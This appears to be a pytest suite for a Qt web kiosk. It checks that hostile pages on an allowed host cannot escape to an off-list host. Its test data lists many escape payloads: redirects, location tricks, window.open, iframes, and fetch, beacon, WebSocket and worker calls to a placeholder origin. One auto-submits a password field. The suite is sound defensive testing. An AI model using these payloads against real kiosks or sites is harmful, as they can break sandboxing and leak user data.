"""A page of an allowed service turns hostile: redirects, new windows, frames and
sub-resources aimed at an off-list host.

The hostile page is served on an allowed host name (``caf.demo.localhost``,
another loopback port) and runs its trick as soon as it loads. Any request
reaching another host is recorded by the server (``hostile.leaks``); a page
shown anyway carries ``#non-autorise``. The borne must hold on every case.
"""

from __future__ import annotations

import pytest
from PySide6.QtCore import QUrl

from tests.escape.probe import assert_held
from tests.ui.web import load, open_tile, run_js

#: id → (status, extra headers, HTML). {OFF} is the off-list origin, {SELF} ours.
NAVIGATIONS: dict[str, tuple[int, dict[str, str], str]] = {
    "redirect-301": (301, {"Location": "{OFF}/"}, ""),
    "redirect-302": (302, {"Location": "{OFF}/"}, ""),
    "redirect-303": (303, {"Location": "{OFF}/"}, ""),
    "redirect-307": (307, {"Location": "{OFF}/"}, ""),
    "redirect-308": (308, {"Location": "{OFF}/"}, ""),
    "refresh-header": (200, {"Refresh": "0; url={OFF}/"}, "<p>x</p>"),
    "meta-refresh": (200, {}, '<meta http-equiv="refresh" content="0; url={OFF}/">'),
    "js-location-href": (200, {}, "<script>location.href='{OFF}/'</script>"),
    "js-location-replace": (200, {}, "<script>location.replace('{OFF}/')</script>"),
    "js-location-assign": (200, {}, "<script>location.assign('{OFF}/')</script>"),
    "js-top-from-iframe": (200, {}, "<iframe srcdoc=\"<script>top.location='{OFF}/'</script>\">"
                                    "</iframe>"),
    "form-post-off-list": (200, {}, '<form id=f method=post action="{OFF}/collecte">'
                                    '<input name=mdp value=secret></form>'
                                    "<script>document.getElementById('f').submit()</script>"),
    "form-get-off-list": (200, {}, '<form id=f method=get action="{OFF}/collecte">'
                                   '<input name=q value=x></form>'
                                   "<script>document.getElementById('f').submit()</script>"),
    "form-button-formaction": (200, {}, '<form method=post action="/ok"><button id=b '
                                        'formaction="{OFF}/x">Envoyer</button></form>'
                                        "<script>document.getElementById('b').click()</script>"),
    "anchor-click": (200, {}, '<a id=a href="{OFF}/">lien</a>'
                              "<script>document.getElementById('a').click()</script>"),
    "area-click": (200, {}, '<map name=m><area id=a shape=rect coords="0,0,9,9" '
                            'href="{OFF}/"></map><script>document.getElementById("a").click()'
                            "</script>"),
    "open-redirect-allowed-host": (200, {}, "<script>location.href='{SELF}/ouvrir'</script>"),
    "target-blank": (200, {}, '<a id=a target=_blank href="{OFF}/">lien</a>'
                              "<script>document.getElementById('a').click()</script>"),
    "target-named-window": (200, {}, '<a id=a target=ailleurs href="{OFF}/">lien</a>'
                                     "<script>document.getElementById('a').click()</script>"),
    "window-open-off-list": (200, {}, "<script>window.open('{OFF}/')</script>"),
    "window-open-noopener": (200, {}, "<script>window.open('{OFF}/', '_blank', 'noopener')"
                                      "</script>"),
    "window-open-blank-then-location": (
        200, {}, "<script>var w = window.open('about:blank');"
                 "if (w) { w.location = '{OFF}/'; }</script>"),
    "window-open-blank-then-write": (
        200, {}, "<script>var w = window.open('about:blank'); if (w) {"
                 "w.document.write('<a id=x href=\"{OFF}/\">x</a>');"
                 "w.document.getElementById('x').click(); }</script>"),
    "window-open-redirector": (200, {}, "<script>window.open('{SELF}/ouvrir')</script>"),
    "iframe-off-list": (200, {}, '<iframe src="{OFF}/cadre"></iframe>'),
    "iframe-data-url": (200, {}, "<iframe src=\"data:text/html,<a id=a href='{OFF}/' "
                                 "target=_top>x</a><script>document.getElementById('a')"
                                 ".click()</script>\"></iframe>"),
    "iframe-meta-refresh": (200, {}, "<iframe srcdoc='<meta http-equiv=refresh "
                                     "content=\"0; url={OFF}/\">'></iframe>"),
    "object-off-list": (200, {}, '<object data="{OFF}/objet" type="text/html"></object>'),
    "embed-off-list": (200, {}, '<embed src="{OFF}/embed" type="text/html">'),
    "svg-link": (200, {}, '<svg><a id=a href="{OFF}/"><text y=20>x</text></a></svg>'
                          "<script>document.getElementById('a').dispatchEvent(new MouseEvent"
                          "('click', {bubbles: true}))</script>"),
}

SUBRESOURCES: dict[str, str] = {
    "img": '<img src="{OFF}/image.png">',
    "img-srcset": '<img srcset="{OFF}/grande.png 2x" src="/rien.png">',
    "script": '<script src="{OFF}/script.js"></script>',
    "stylesheet": '<link rel=stylesheet href="{OFF}/style.css">',
    "css-import": "<style>@import url('{OFF}/importe.css');</style>",
    "css-background": "<div style=\"background:url('{OFF}/fond.png');width:9px;height:9px\">"
                      "</div>",
    "font-face": "<style>@font-face{font-family:F;src:url('{OFF}/police.woff2')}"
                 "body{font-family:F}</style><p>texte</p>",
    "fetch": "<script>fetch('{OFF}/api', {mode: 'no-cors'}).catch(function(){})</script>",
    "xhr": "<script>var x = new XMLHttpRequest(); x.open('GET', '{OFF}/xhr'); x.send();"
           "</script>",
    "websocket": "<script>try { new WebSocket('ws://' + '{OFFHOST}' + '/ws'); } catch (e) {}"
                 "</script>",
    "event-source": "<script>try { new EventSource('{OFF}/flux'); } catch (e) {}</script>",
    "send-beacon": "<script>navigator.sendBeacon('{OFF}/balise', 'donnees')</script>",
    "link-prefetch": '<link rel=prefetch href="{OFF}/pre">',
    "link-preload": '<link rel=preload as=image href="{OFF}/precharge.png">',
    "link-modulepreload": '<link rel=modulepreload href="{OFF}/module.js">',
    "anchor-ping": '<a id=a ping="{OFF}/ping" href="/ok">x</a>'
                   "<script>document.getElementById('a').click()</script>",
    "video-src": '<video src="{OFF}/film.mp4" autoplay muted></video>',
    "audio-src": '<audio src="{OFF}/son.mp3" autoplay muted></audio>',
    "worker-import-scripts": "<script>var b = new Blob([\"importScripts('{OFF}/w.js')\"]);"
                             "try { new Worker(URL.createObjectURL(b)); } catch (e) {}</script>",
    "image-object-js": "<script>new Image().src = '{OFF}/pixel.png';</script>",
}


def _fill(text: str, hostile) -> str:
    return (text.replace("{OFF}", hostile.off_list("").rstrip("/"))
            .replace("{OFFHOST}", f"ailleurs.demo.localhost:{hostile.port}")
            .replace("{SELF}", hostile.url("").rstrip("/")))


@pytest.mark.parametrize("case", list(NAVIGATIONS))
def test_hostile_page_cannot_take_the_main_frame_off_list(qtbot, borne, hostile, case):
    status, headers, html = NAVIGATIONS[case]
    hostile.page("/ouvrir", "", 302, {"Location": hostile.off_list("/")})  # open redirect
    hostile.page("/ok", "<p id=ok>ok</p>")
    url = hostile.page(f"/piege/{case}", _fill(html, hostile), status,
                       {k: _fill(v, hostile) for k, v in headers.items()})
    page = open_tile(qtbot, borne, "caf")
    page.load(QUrl(url))
    assert_held(qtbot, borne, hostile, wait_ms=1200)


@pytest.mark.parametrize("case", list(SUBRESOURCES))
def test_hostile_page_cannot_fetch_off_list(qtbot, borne, hostile, case):
    hostile.page("/ok", "<p id=ok>ok</p>")
    url = hostile.page(f"/piege/{case}", "<!doctype html><p>piège</p>"
                       + _fill(SUBRESOURCES[case], hostile))
    page = open_tile(qtbot, borne, "caf")
    load(qtbot, page, url)
    assert_held(qtbot, borne, hostile, wait_ms=1200)


def test_the_leak_detector_sees_allowed_requests(qtbot, borne, hostile):
    """Control: the same tricks aimed at the allowed host do reach the server,
    so an empty leak list above means refused, not 'never tried'."""
    page = open_tile(qtbot, borne, "caf")
    self_origin = hostile.url("").rstrip("/")
    html = "".join(s.replace("{OFF}", self_origin) for s in (
        SUBRESOURCES["img"], SUBRESOURCES["fetch"], SUBRESOURCES["send-beacon"]))
    load(qtbot, page, hostile.page("/controle", "<!doctype html>" + html))
    qtbot.waitUntil(lambda: {"/image.png", "/api", "/balise"} <= set(hostile.seen),
                    timeout=5000)
    assert run_js(qtbot, page, "return location.pathname;") == "/controle"
    assert hostile.leaks == []
